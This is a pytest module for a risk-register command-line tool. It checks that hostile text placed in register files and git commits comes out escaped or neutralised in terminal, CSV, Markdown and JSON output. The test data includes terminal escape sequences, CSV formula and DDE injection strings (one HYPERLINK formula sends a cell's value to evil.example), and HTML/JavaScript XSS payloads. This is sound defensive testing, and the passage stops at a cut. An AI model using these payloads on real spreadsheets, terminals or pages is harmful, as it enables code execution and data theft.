"""Outputs that cannot be turned against their reader (issue 10).

Register text and git metadata are written by anyone who can open a pull request. Each hostile
class below is planted in every text field of a small register with a real git history (risk,
control, KRI, incident, launch, failure mode, owner, an unknown reference, the commit's subject
and author), and every output riskctl prints from it is checked:

- terminal text (plain and coloured): no control character, escape sequence or bidi override
  reaches the reader, the payload is shown escaped on one line, columns stay aligned;
- CSV: no cell a spreadsheet would run, numbers stay numbers;
- Markdown (every report, `score` and `diff`): no link, image, autolink or HTML comes from
  register text, the document's block structure is the one a harmless title gives, and Mermaid
  labels stay inside their quotes;
- JSON: the same values, with nothing a terminal acts on.

Commands run in-process (typer's CliRunner); a handful run as real subprocesses.
"""

from __future__ import annotations

import copy
import csv
import datetime
import functools
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pydantic import BaseModel
from typer.testing import CliRunner

from riskctl.cli import app
from riskctl.errors import RiskctlError
from riskctl.findings import Finding, LintResult, Severity
from riskctl.lint.engine import lint
from riskctl.load import Sources, validate
from riskctl.model.config import Config
from riskctl.model.register import KIND_BY_FOLDER
from riskctl.output import FORMATTERS
from riskctl.output.markdown import markdown_cell, markdown_text, mermaid_label
from riskctl.textsafe import (
    csv_cell,
    cut,
    display_width,
    is_visible,
    json_safe,
    markdown_inline,
    pad,
    visible,
)
from tests.conftest import BASE_REGISTER, FROZEN_NOW, ROOT
from tests.gitrepo import GitRepo

runner = CliRunner()
NOW = datetime.date.fromisoformat(FROZEN_NOW)
#: Every command must finish well within this (seconds); the hostile text must not slow it down.
TIME_BOUND = 20.0
WIDE = {"COLUMNS": "1000", "NO_COLOR": ""}

# --- the register ---------------------------------------------------------------------------


def _quoted(text: str) -> str:
    """A YAML double-quoted scalar holding `text` exactly: what YAML may not hold as it is
    (controls, DEL, C1, a byte-order mark) as an escape; everything else, emoji too, as is."""
    characters = []
    for character in text:
        code = ord(character)
        if character in '"\\':
            characters.append("\\" + character)
        elif code < 0x20 or 0x7F <= code <= 0x9F or character == "\ufeff":
            characters.append(f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}")
        else:
            characters.append(character)
    return '"' + "".join(characters) + '"'


def register_files(payload: str) -> dict[str, str]:
    """A small register with `payload` in every free-text field (and one unknown reference)."""
    text = _quoted(payload)
    weeks = [
        f"  - {{date: 2026-{month:02d}-{day:02d}, value: {value}}}\n"
        for (month, day), value in zip(
            [(10, 5), (10, 12), (10, 19), (10, 26), (11, 2), (11, 9), (11, 16), (11, 23)],
            [31, 30, 33, 41, 52, 63, 70, 78],
            strict=True,
        )
    ]
    return {
        "riskctl.yaml": "version: 1\ncategories:\n"
        "  - {id: payments-fraud, name: Payments fraud, appetite: low}\n",
        "owners/payments-risk.yaml": f"id: payments-risk\nname: {text}\nteam: {text}\n",
        "risks/R-001.yaml": (
            f"id: R-001\ntitle: {text}\ndescription: {text}\ncategory: payments-fraud\n"
            "owner: payments-risk\ninherent: {likelihood: 4, impact: 4}\n"
            f"controls: [C-001, {text}]\nkris: [KRI-001]\ntreatment: mitigate\n"
            "reviewed: 2026-10-01\n"
        ),
        "controls/C-001.yaml": (
            f"id: C-001\ntitle: {text}\nowner: payments-risk\nkey: true\nnature: preventive\n"
            "automation: automated\nfrequency: continuous\nreduces: likelihood\n"
            "effectiveness: {design: effective, operating: partially-effective}\n"
            "tests:\n  - {date: 2026-09-15, type: operating, procedure: reperformance, "
            "sample_size: 1, exceptions: 0, result: pass}\n"
        ),
        "kris/KRI-001.yaml": (
            f"id: KRI-001\ntitle: {text}\nrisks: [R-001]\nowner: payments-risk\nunit: bps\n"
            "direction: higher-is-worse\nthresholds: {amber: 40, red: 60}\nobservations:\n"
            + "".join(weeks)
        ),
        "launches/LAUNCH-001.yaml": (
            f"id: LAUNCH-001\ntitle: {text}\nowner: payments-risk\nlaunch_date: 2027-01-15\n"
            "failure_modes:\n  - id: FM1\n"
            f"    description: {text}\n    severity: 7\n    occurrence: 5\n    detection: 4\n"
            f"    prevention_controls: [C-001]\n    risk: R-001\n    actions: [{text}]\n"
            "monitoring:\n  - {kri: KRI-001, until: 2027-03-31}\n"
        ),
    }


def added_files(payload: str) -> dict[str, str]:
    """What the second commit adds: a new risk above appetite and a new incident."""
    text = _quoted(payload)
    return {
        "risks/R-002.yaml": (
            f"id: R-002\ntitle: {text}\ncategory: payments-fraud\nowner: payments-risk\n"
            "inherent: {likelihood: 5, impact: 5}\ntreatment: mitigate\nreviewed: 2026-11-01\n"
        ),
        "incidents/INC-2026-002.yaml": (
            f"id: INC-2026-002\nkind: incident\ntitle: {text}\noccurred: 2026-11-20\n"
            f"severity: 3\nrisks: [R-001]\nfailed_controls: [C-001]\nsummary: {text}\n"
        ),
    }


@dataclass(frozen=True)
class Planted:
    """A repository whose register carries a payload, and the two commits of its history."""

    payload: str
    register: Path
    first: str
    second: str


def plant(root: Path, payload: str) -> Planted:
    """Commit a harmless register, then the payload everywhere, with the payload as the commit's
    subject and (as far as git allows) its author's name; for the payloads of outputs that read
    no history, just write the register."""
    if payload in {*CSV_PAYLOADS.values(), *WIDE_TITLES.values()}:  # outputs that read no history
        for relative, content in {**register_files(payload), **added_files(payload)}.items():
            target = root / "register" / relative
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(content, encoding="utf-8")
        return _checked(Planted(payload, root / "register", "", ""))
    repo = GitRepo(root)
    for relative, content in register_files("Plain words").items():
        repo.write(f"register/{relative}", content)
    first = repo.commit("baseline", day=300)
    for relative, content in {**register_files(payload), **added_files(payload)}.items():
        repo.write(f"register/{relative}", content)
    author = re.sub(r"[<>\n\x00]", "_", payload).strip(" .,:;\"'") or "x"
    repo.git("add", "--all")
    repo.git(
        "commit", "--quiet", "-m", f"{payload}\n", "--author", f"{author} <a@example.invalid>",
        day=325,
    )  # fmt: skip
    return _checked(Planted(payload, root / "register", first, repo.git("rev-parse", "HEAD")))


def _checked(case: Planted) -> Planted:
    _, scored, _ = run("score", "--format", "json", "--now", FROZEN_NOW, str(case.register))
    titles = [risk["title"] for risk in json.loads(scored)["risks"]]
    assert titles == [case.payload, case.payload], "the planted register must load"
    return case


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Planted]]:
    """Repositories built on first use, one per payload, shared by the module's tests."""
    root = tmp_path_factory.mktemp("planted")

    class Lazy(dict[str, Planted]):
        def __missing__(self, payload: str) -> Planted:
            self[payload] = plant(root / f"case{len(self)}", payload)
            return self[payload]

    yield Lazy()


_RUNS: dict[tuple[str, ...], tuple[int, str, str]] = {}


def run_once(*arguments: str) -> tuple[int, str, str]:
    """`run`, remembered: the outputs of a planted register never change within the module."""
    if arguments not in _RUNS:
        _RUNS[arguments] = run(*arguments)
    return _RUNS[arguments]


def run(*arguments: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """The CLI in-process: exit code, stdout, stderr; never an internal error, within bounds."""
    started = time.monotonic()
    result = runner.invoke(app, list(arguments), env={**WIDE, **(env or {})})
    elapsed = time.monotonic() - started
    assert result.exit_code != 4, result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stdout + result.stderr
    assert elapsed < TIME_BOUND
    return result.exit_code, result.stdout, result.stderr


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


# --- 1. terminal -----------------------------------------------------------------------------

#: Hostile class → text. Each must come out escaped and on one line.
TERMINAL = {
    "ansi-csi": "Red \x1b[31mALERT\x1b[0m, wipe \x1b[2J\x1b[H now",
    "osc": "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07 \x1b]0;pwned\x07",
    "c1-csi": "eight-bit \x9b31m CSI \x85",
    "backspace-and-del": "safe\x08\x08\x08\x08EVIL\x7f",
    "carriage-return": "looks fine\rOVERWRITTEN",
    "bidi": "access \u202etnemyap\u202c granted, \u2066isolate\u2069 \u2067x\u2069",
    "newline": "first line\nsecond line",
    "rich-markup": "[bold red]loud[/] [link=https://evil.example]x[/link]",
}
#: Terminal outputs: the CLI arguments (the register folder appended) and whether rich colours
#: them. `{first}` and `{second}` are the two commits.
TERMINAL_OUTPUTS = {
    "lint-text": (["lint", "--format", "text", "--now", FROZEN_NOW], False),
    "lint-colour": (["lint", "--color", "always", "--now", FROZEN_NOW], True),
    "lint-github": (["lint", "--format", "github", "--now", FROZEN_NOW], False),
    "score-table": (["score", "--format", "text", "--now", FROZEN_NOW], False),
    "score-colour": (["score", "--color", "always", "--now", FROZEN_NOW], True),
    "score-explain": (["score", "--explain", "R-001", "--now", FROZEN_NOW], False),
    "diff-text": (["diff", "{first}", "{second}"], False),
    "log-text": (["log", "R-001"], False),
    "kri-status": (["kri", "status", "--format", "text", "--now", FROZEN_NOW], False),
    "kri-status-colour": (["kri", "status", "--color", "always", "--now", FROZEN_NOW], True),
    "incidents": (["incidents", "--now", FROZEN_NOW], False),
    "due": (["due", "--now", FROZEN_NOW, "--within", "3650"], False),
    "premortem": (["premortem", "--format", "text", "--now", FROZEN_NOW], False),
    "premortem-colour": (["premortem", "--color", "always", "--now", FROZEN_NOW], True),
    # CSV is printed to terminals too (no redirect): its cells keep line feeds, nothing else
    "score-csv": (["score", "--format", "csv", "--now", FROZEN_NOW], False),
}
#: Outputs that show the payload itself (the others show ids and counts only, or, for CSV,
#: the payload with its line breaks kept: test_csv_cell).
SHOWS_PAYLOAD = frozenset(TERMINAL_OUTPUTS) - {"incidents", "lint-github", "score-csv"}
#: rich's own colours; everything else that looks like an escape sequence is hostile.
SGR = re.compile(r"\x1b\[[0-9;]*m")


#: Outputs that cut titles to a width (cells).
CUT_AT = {"score-table": 48, "kri-status": 48, "kri-status-colour": 48, "due": 40}


def _as_shown(payload: str, output: str) -> str:
    """The payload as an output shows it: escaped, maybe cut; `log` quotes the commit's subject
    (its message's first line) as a JSON string."""
    if output == "log-text":
        return visible(json.dumps(payload.splitlines()[0], ensure_ascii=False))
    shown = visible(payload)
    return cut(shown, CUT_AT[output]) if output in CUT_AT else shown


def _arguments(template: list[str], case: Planted) -> list[str]:
    filled = [part.format(first=case.first, second=case.second) for part in template]
    return [*filled, str(case.register)]


@pytest.mark.parametrize("output", sorted(TERMINAL_OUTPUTS))
@pytest.mark.parametrize("hostile", sorted(TERMINAL))
def test_terminal_output_shows_hostile_text_escaped(
    planted: dict[str, Planted], hostile: str, output: str
) -> None:
    case = planted[TERMINAL[hostile]]
    template, is_coloured = TERMINAL_OUTPUTS[output]
    before = snapshot(case.register)
    code, stdout, stderr = run_once(*_arguments(template, case))
    assert code in (0, 1), stderr
    shown = SGR.sub("", stdout) if is_coloured else stdout
    assert is_visible(shown, keep_newlines=True), repr(shown)
    assert is_visible(stderr, keep_newlines=True), repr(stderr)
    if output in SHOWS_PAYLOAD:
        assert _as_shown(case.payload, output) in shown
    if hostile == "rich-markup" and is_coloured:
        assert "[link=https://evil.example]" in shown  # text, not a live link
        assert "\x1b]8;" not in stdout
    assert snapshot(case.register) == before


def test_a_newline_in_a_title_never_breaks_a_table_row(planted: dict[str, Planted]) -> None:
    case = planted[TERMINAL["newline"]]
    _, stdout, _ = run("score", "--format", "text", "--now", FROZEN_NOW, str(case.register))
    lines = stdout.splitlines()
    assert len(lines) == 1 + 2 + 1  # header, R-001 and R-002, footer
    assert all(line.startswith(("risk ", "R-00", "2 risks")) for line in lines)


def test_hostile_text_in_an_error_message_is_shown_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "no\x1b]0;pwned\x07such\u202efolder"
    code, stdout, stderr = run("lint", str(folder))
    assert code == 3
    assert stderr.startswith("riskctl: error: ")
    assert is_visible(stderr, keep_newlines=True)
    assert "no\\x1b]0;pwned\\x07such\\u202efolder" in stderr
    assert stdout == ""


def test_lint_formatters_escape_a_hostile_message_and_file() -> None:
    hostile = "bad \x1b[31mred\x1b[0m \u202eabc\n next \x9b2J"
    finding = Finding(f"risks/{hostile}.yaml", 1, 2, "RK103", "unknown-reference",
                      Severity.ERROR, hostile)  # fmt: skip
    result = LintResult((finding,), 1)
    for name in ("text", "github"):
        written = FORMATTERS[name](result, "0.0.0-test")
        assert is_visible(written, keep_newlines=True), name
        assert written.count("\n") == (2 if name == "text" else 1), name
    for name in ("json", "sarif"):
        written = FORMATTERS[name](result, "0.0.0-test")
        assert is_visible(written, keep_newlines=True), name
        assert hostile in written.encode().decode("unicode_escape") or hostile in json.dumps(
            json.loads(written), ensure_ascii=False
        )


def test_a_file_name_that_is_not_utf8_is_shown_in_every_lint_format(tmp_path: Path) -> None:
    """A register file named with bytes that are not UTF-8 (any name is allowed on Linux, and
    in a commit): its findings carry the name in every format; SARIF's URI percent-encodes the
    bytes as they are on disk (quoting the decoded name raised: exit 4)."""
    register = tmp_path / "register"
    shutil.copytree(BASE_REGISTER, register)
    risk = (register / "risks/R-001.yaml").read_bytes()
    (register / "risks" / os.fsdecode(b"R-\xff.yaml")).write_bytes(risk)
    for name in ("text", "json", "github", "sarif"):
        code, stdout, stderr = run("lint", "--format", name, "--now", FROZEN_NOW, str(register))
        assert code == 1, (name, stderr)
        assert "RK102" in stdout and "R-" in stdout, name
        assert "R-\\udcff.yaml" in stdout or "R-%FF.yaml" in stdout, name
    (register / "risks" / os.fsdecode(b"R-\xff.yaml")).write_bytes(b"id: R-009\nx: [\n")
    for name in ("text", "json", "csv", "markdown"):
        arguments = ("score", "--partial", "--format", name, "--now", FROZEN_NOW, str(register))
        code, stdout, stderr = run(*arguments)
        assert code == 0, (name, stderr)
        assert "udcff.yaml" in stdout + stderr, name  # the file left out, escaped


# --- wide and zero-width characters ------------------------------------------------------------

WIDE_TITLES = {
    "cjk": "支付欺诈风险\uff1a礼品币",  # with a fullwidth colon
    "emoji": "Chargebacks 🔥🔥 rising",
    "zero-width": "zero\u200bwidth\u200djoin\ufeffed",
    "combining": "cafe\u0301 re\u0301sume\u0301",
    "fullwidth": "\uff26\uff35\uff2c\uff2c wide",
}


@pytest.mark.parametrize(
    ("output", "column"),
    [
        (["score", "--format", "text"], "payments-fraud"),
        (["kri", "status", "--format", "text"], "78 bps"),
        (["premortem", "--format", "text"], "FM1"),
    ],
    ids=["score-table", "kri-status", "premortem"],
)
@pytest.mark.parametrize("kind", sorted(WIDE_TITLES))
def test_wide_and_zero_width_text_keeps_columns_aligned(
    planted: dict[str, Planted], kind: str, output: list[str], column: str
) -> None:
    case = planted[WIDE_TITLES[kind]]
    _, stdout, _ = run(*output, "--now", FROZEN_NOW, str(case.register))
    rows = [
        line
        for line in stdout.splitlines()
        if WIDE_TITLES[kind] in line and not line.startswith("LAUNCH-")
    ]
    assert rows, stdout
    header = next(line for line in stdout.splitlines() if line.startswith(("risk ", "kri ")) or
                  line.lstrip().startswith("mode "))  # fmt: skip
    if column == "FM1":  # the description is the last column: check what precedes it instead
        starts = {display_width(line[: line.index(WIDE_TITLES[kind])]) for line in rows}
        assert starts == {display_width(header[: header.index("failure mode")])}
        return
    starts = {display_width(line[: line.index(column)]) for line in rows}
    header_start = display_width(header[: header.index(_column_name(output))])
    assert starts == {header_start}


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_terminal_that_cannot_encode_the_text_gets_it_escaped(
    planted: dict[str, Planted], encoding: str
) -> None:
    """A C, POSIX or Latin-1 locale (PYTHONUTF8=0, old CI images, Windows consoles) has an
    encoding without `…`, `·` or CJK: every print was a UnicodeEncodeError, exit 4. The
    characters are written as `\\u` escapes instead, in plain and coloured output alike."""
    register = str(planted[WIDE_TITLES["cjk"]].register)
    commands = [
        ["score", "--format", "text", register],
        ["score", "--color", "always", register],
        ["report", "wbr", register],
        ["lint", "--format", "text", register],
    ]
    environment = {**os.environ, "PYTHONIOENCODING": encoding, "COLUMNS": "200"}
    processes = [
        subprocess.Popen(
            [sys.executable, "-m", "riskctl", *command, "--now", FROZEN_NOW],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=environment,
        )
        for command in commands
    ]
    outputs = [process.communicate(timeout=TIME_BOUND) for process in processes]
    for command, process, (stdout, stderr) in zip(commands, processes, outputs, strict=True):
        assert process.returncode in (0, 1), (command, stderr.decode(encoding))
        assert b"Traceback" not in stdout + stderr
        stdout.decode(encoding)  # what the terminal can show, and nothing else
        if command[0] == "score":
            assert b"\\u652f\\u4ed8" in stdout  # the title, escaped, not dropped


def _column_name(output: list[str]) -> str:
    return "category" if output[0] == "score" else "latest"


@pytest.mark.parametrize(
    ("text", "width"),
    [
        ("abc", 3),
        ("支付", 4),
        ("🔥", 2),
        ("e\u0301", 1),
        ("a\u200bb", 2),
        ("\ufeffx", 1),
        ("\uff21\uff22", 4),
        ("한\u1161", 2),
    ],
)
def test_display_width_counts_terminal_cells(text: str, width: int) -> None:
    assert display_width(text) == width


def test_pad_and_cut_measure_cells_not_characters() -> None:
    assert pad("支付", 6) == "支付  "
    assert pad("支付", 6, right=True) == "  支付"
    assert cut("支付欺诈风险", 7) == "支付欺…"
    assert display_width(cut("支付欺诈风险", 7)) == 7
    assert cut("short", 7) == "short"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31m", "\\x1b[31m"),
        ("a\nb", "a\\nb"),
        ("a\rb\tc", "a\\rb\\tc"),
        ("\x00\x07\x7f", "\\x00\\x07\\x7f"),
        ("\x85\x9b", "\\x85\\x9b"),
        ("\u202a\u202b\u202c\u202d\u202e", "\\u202a\\u202b\\u202c\\u202d\\u202e"),
        ("\u2066\u2067\u2068\u2069", "\\u2066\\u2067\\u2068\\u2069"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        ("café 支付 🔥", "café 支付 🔥"),
    ],
)
def test_visible_escapes_exactly_the_hostile_characters(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_visible_keeps_newlines_only_when_asked() -> None:
    assert visible("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"


def test_json_safe_keeps_the_value_and_hides_what_a_terminal_acts_on() -> None:
    value = {"title": "a\x1b[31m\x9b\u202e\x7fz", "n": 1}
    written = json_safe(json.dumps(value, ensure_ascii=False))
    assert is_visible(written, keep_newlines=True)
    assert json.loads(written) == value


# --- 2. CSV ------------------------------------------------------------------------------------

CSV_PAYLOADS = {
    "equals": "=1+1",
    "hyperlink-formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+41 chargebacks",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = [
    f"{tier}_{part}"
    for tier in ("inherent", "residual", "projected")
    for part in ("likelihood", "impact", "score")
]


@pytest.mark.parametrize("hostile", sorted(CSV_PAYLOADS))
def test_score_csv_neutralises_formulas_and_keeps_numbers(
    planted: dict[str, Planted], hostile: str
) -> None:
    case = planted[CSV_PAYLOADS[hostile]]
    code, stdout, _ = run("score", "--format", "csv", "--now", FROZEN_NOW, str(case.register))
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert [row["id"] for row in rows] == ["R-002", "R-001"]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
        assert row["title"] == "'" + case.payload.replace("\r", "\n")
        for column in NUMBER_COLUMNS:
            assert row[column].isdigit(), (column, row[column])


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a=1", "a=1"),
        ("\x1b]0;pwned\x07 \x1b[2J", "\\x1b]0;pwned\\x07 \\x1b[2J"),
        ("=\x9b31m\x85", "'=\\x9b31m\\x85"),
        ("a\u202eb\u2066c\u2069\u2028", "a\\u202eb\\u2066c\\u2069\\u2028"),
        ("a\tb\nc", "a\tb\nc"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (12, 12),
    ],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


# --- 3. Markdown -------------------------------------------------------------------------------

MARKDOWN = {
    "links": "![pixel](https://evil.example/t.png) [click](javascript:alert(1)) [x][1]\n\n"
    "[1]: https://evil.example/",
    "autolinks": "<https://evil.example/> <bob@evil.example> see https://evil.example/x, "
    "HTTP://EVIL.EXAMPLE, www.evil.example, bob@evil.example, @org/security-team",
    "html": "<img src=x onerror=alert(1)> <script>alert(1)</script> "
    "</details><details open><summary>gotcha",
    "html-entities": "&lt;script&gt; &#x3C;b&#x3E; &amp;",
    "headings": "# Heading\n## Another\ntitle\n===\nunder\n---",
    "table-row": "| a | b |\n|---|---|\n| c | d |",
    "lists-and-quotes": "- item\n+ item\n* item\n1. item\n2) item\n> quoted",
    "code": "```\ncode\n```\n~~~\nmore `code` and ``` inline",
    "mermaid-breakout": 'a"] --> B["%%{init: {}}%% `x` #35; ]',
}
MARKDOWN_OUTPUTS = {
    "report-register": ["report", "register", "--now", FROZEN_NOW],
    "report-rcm": ["report", "rcm", "--now", FROZEN_NOW],
    "report-risk": ["report", "risk", "R-001", "--now", FROZEN_NOW],
    "report-launch": ["report", "launch", "LAUNCH-001", "--now", FROZEN_NOW],
    "report-wbr": ["report", "wbr", "--base", "{first}", "--now", FROZEN_NOW],
    "report-mbr": ["report", "mbr", "--base", "{first}", "--now", FROZEN_NOW],
    "score-markdown": ["score", "--format", "markdown", "--now", FROZEN_NOW],
    "diff-markdown": ["diff", "--format", "markdown", "{first}", "{second}"],
}
#: riskctl's own HTML in its Markdown; any other HTML token came from register text.
OWN_HTML = re.compile(r"<br>|</details>|<details><summary>[^<>]*</summary>")
#: What GitHub turns into a link in plain text: GFM extended autolinks (in a text node) and
#: @mentions (GitHub finds those in the rendered text, so `@` then a word character anywhere).
GFM_AUTOLINK = re.compile(r"(?i)(?:https?|ftp)://|www\.|[\w.+-]@[\w-]")
MENTION = re.compile(r"@\w")
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable("text_join")


@functools.lru_cache(maxsize=32)
def parsed(markdown: str) -> tuple[Token, ...]:
    """The block tokens of `markdown`, parsed once: each test reads the same two documents
    (its hostile one and the harmless one) through five checks, and the harmless one is read
    again by every payload. The checks only read the tokens."""
    return tuple(PARSER.parse(markdown))


def _tokens(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def live_markup(markdown: str) -> list[str]:
    """Every link, image, foreign HTML and GFM autolink the Markdown would render."""
    found = []
    for token in _tokens(parsed(markdown)):
        if token.type in ("link_open", "image"):
            found.append(f"{token.type} {token.attrs}")
        elif token.type in ("html_inline", "html_block"):
            if not OWN_HTML.fullmatch(token.content.strip()):
                found.append(f"{token.type} {token.content!r}")
        elif token.type == "text" and GFM_AUTOLINK.search(token.content):
            found.append(f"autolink in {token.content!r}")
    rendered = "".join(
        token.content if token.type in ("text", "text_special") else "\n"
        for token in _tokens(parsed(markdown))
    )
    found += [f"mention {mention!r}" for mention in MENTION.findall(rendered)]
    return found


def structure(markdown: str) -> list[str]:
    """The block structure: every block token's type (headings, lists, tables, cells, code).

    Paragraphs are left out: a blank line in a description may split it into two, which is
    free text staying free text."""
    return [
        f"{token.type}:{token.info}" if token.type == "fence" else token.type
        for token in parsed(markdown)
        if token.type not in ("inline", "paragraph_open", "paragraph_close")
    ]


def shown_text(markdown: str) -> str:
    """The text a reader sees, line by line (inline children's contents), without the
    zero-width space riskctl puts after an `@` so that GitHub notifies no one."""
    parts = []
    for token in _tokens(parsed(markdown)):
        if token.type in ("text", "text_special", "code_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak", "inline") or (
            token.type == "html_inline" and token.content == "<br>"
        ):
            parts.append("\n")
    return "".join(parts).replace("\u200b", "")


def mermaid_blocks(markdown: str) -> list[str]:
    return [
        token.content
        for token in parsed(markdown)
        if token.type == "fence" and token.info == "mermaid"
    ]


def _markdown(case: Planted, output: str) -> str:
    arguments = _arguments(MARKDOWN_OUTPUTS[output], case)
    before = snapshot(case.register)
    code, stdout, stderr = run_once(*arguments)
    assert code in (0, 1), stderr
    assert snapshot(case.register) == before
    return stdout


@pytest.mark.parametrize("output", sorted(MARKDOWN_OUTPUTS))
@pytest.mark.parametrize("hostile", sorted(MARKDOWN))
def test_markdown_output_renders_hostile_text_as_text(
    planted: dict[str, Planted], hostile: str, output: str
) -> None:
    harmless = _markdown(planted["Harmless words"], output)
    written = _markdown(planted[MARKDOWN[hostile]], output)
    assert live_markup(harmless) == []
    assert live_markup(written) == []
    assert structure(written) == structure(harmless)
    shown = shown_text(written)
    for line in MARKDOWN[hostile].split("\n"):
        assert line in shown or output in ("diff-markdown",), line
    for chart, plain in zip(mermaid_blocks(written), mermaid_blocks(harmless), strict=True):
        assert chart.count("\n") == plain.count("\n")
        directive, _, chart = chart.partition("\n")  # riskctl's own: colours, #hex only
        assert re.fullmatch(
            r'%%\{init: \{"themeVariables": \{"xyChart": \{"plotColorPalette": '
            r'"#[0-9a-f]{6}(, #[0-9a-f]{6})*"\}\}\}\}%%',
            directive,
        ), directive
        for label in re.findall(r'"[^"]*"', chart):
            assert not re.search(r"[`\[\]<>%]|#(?!\w+;)", label), label
        assert "%%" not in chart and "`" not in chart


@pytest.mark.parametrize("output", sorted(MARKDOWN_OUTPUTS))
@pytest.mark.parametrize("hostile", ["osc", "c1-csi", "bidi"])
def test_markdown_output_shows_control_characters_escaped(
    planted: dict[str, Planted], hostile: str, output: str
) -> None:
    """Markdown goes to a terminal too (without --out): no escape sequence gets through."""
    written = _markdown(planted[TERMINAL[hostile]], output)
    assert is_visible(written, keep_newlines=True), output
    assert live_markup(written) == []


def test_the_payload_reaches_every_markdown_output(planted: dict[str, Planted]) -> None:
    """The check above is not vacuous: each output does show register text."""
    case = planted["Harmless words"]
    for output in MARKDOWN_OUTPUTS:
        assert "Harmless words" in _markdown(case, output), output


def test_wbr_draws_a_chart_labelled_with_the_kri_title(planted: dict[str, Planted]) -> None:
    written = _markdown(planted[MARKDOWN["mermaid-breakout"]], "report-wbr")
    charts = mermaid_blocks(written)
    assert charts
    escaped = mermaid_label(MARKDOWN["mermaid-breakout"])[1:-1]  # inside the title's quotes
    assert all(f'    title "KRI-001 {escaped}, ' in chart for chart in charts)


@pytest.mark.parametrize("hostile", sorted(MARKDOWN))
def test_markdown_filters_keep_the_text_literal(hostile: str) -> None:
    text = MARKDOWN[hostile]
    cell = "| x | y |\n|---|---|\n| " + markdown_cell(text) + " | z |\n"
    assert live_markup(cell) == []
    assert structure(cell) == structure("| x | y |\n|---|---|\n| a | z |\n")
    assert shown_text(cell).replace("\n", "") == "xy" + text.replace("\n", "") + "z"
    paragraph = "Intro.\n\n" + markdown_text(text) + "\n"
    assert live_markup(paragraph) == []
    assert structure(paragraph) == structure("Intro.\n\nplain\nwords\n")
    assert shown_text(paragraph).strip() == "Intro.\n\n" + text or all(
        line in shown_text(paragraph) for line in text.split("\n")
    )


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ('say "hi"', '"say #quot;hi#quot;"'),
        ("a\nb\r\nc", '"a b c"'),
        ("50% #1", '"50#37; #35;1"'),
        ("%%{init}%%", '"#37;#37;{init}#37;#37;"'),
        ("`md` [x]", '"#96;md#96; #91;x#93;"'),
        ("<b>", '"#lt;b#gt;"'),
        ("esc\x1b[31m", '"esc\\x1b#91;31m"'),
    ],
)
def test_mermaid_label_stays_inside_its_quotes(text: str, label: str) -> None:
    assert mermaid_label(text) == label


def test_markdown_inline_escapes_block_openers_only_at_line_starts() -> None:
    assert markdown_inline("# a\n- b\n1. c\nd - e # f") == "\\# a\n\\- b\n1\\. c\nd - e # f"
    assert markdown_inline("- b", is_block=False) == "- b"
    assert markdown_inline("a\n\n    code\n\n_ _ _") == "a\n\ncode\n\n\\_ _ _"


# --- JSON ------------------------------------------------------------------------------------

JSON_OUTPUTS = {
    "score-json": ["score", "--format", "json", "--now", FROZEN_NOW],
    "diff-json": ["diff", "--format", "json", "{first}", "{second}"],
    "log-json": ["log", "R-001", "--format", "json"],
    "kri-json": ["kri", "status", "--format", "json", "--now", FROZEN_NOW],
    "premortem-json": ["premortem", "--format", "json", "--now", FROZEN_NOW],
    "lint-json": ["lint", "--format", "json", "--now", FROZEN_NOW],
    "lint-sarif": ["lint", "--format", "sarif", "--now", FROZEN_NOW],
}


@pytest.mark.parametrize("output", sorted(JSON_OUTPUTS))
@pytest.mark.parametrize("hostile", ["c1-csi", "bidi"])
def test_json_outputs_keep_values_but_hide_them_from_terminals(
    planted: dict[str, Planted], hostile: str, output: str
) -> None:
    case = planted[TERMINAL[hostile]]
    code, stdout, _ = run(*_arguments(JSON_OUTPUTS[output], case))
    assert code in (0, 1)
    assert is_visible(stdout, keep_newlines=True)
    document = json.loads(stdout)
    assert document.get("version", 1) == 1 or "runs" in document
    if output not in ("lint-json", "lint-sarif"):
        # `log` has only the commit's subject: its message's first line
        expected = case.payload.splitlines()[0] if output == "log-json" else case.payload
        assert any(expected in text for text in _strings(document))


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


# --- a few through the real CLI --------------------------------------------------------------


def test_real_cli_escapes_hostile_text(planted: dict[str, Planted]) -> None:
